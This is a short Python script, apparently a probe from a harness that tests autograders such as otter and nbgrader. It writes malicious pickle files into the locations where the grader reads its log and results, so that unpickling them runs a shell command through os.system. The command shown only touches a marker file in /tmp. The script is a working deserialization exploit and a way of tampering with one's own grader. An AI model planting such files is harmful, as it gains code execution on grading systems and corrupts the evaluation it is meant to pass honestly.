"""Leaves a pickle that runs code where otter keeps its log, for the grader to unpickle."""

GROUP = "otter and nbgrader"
import glob
import os
import pickle


class Fires:
    def __reduce__(self):
        return (os.system, (f"touch {marked('/tmp')}",))


for folder in [".", "..", "../..", KNOWN["results"], *glob.glob("/tmp/*/submission")]:
    for name in (".OTTER_LOG", "results.pkl", ".otter_results.pkl"):
        try:
            open(os.path.join(folder, name), "wb").write(pickle.dumps(Fires()))
        except Exception:
            pass
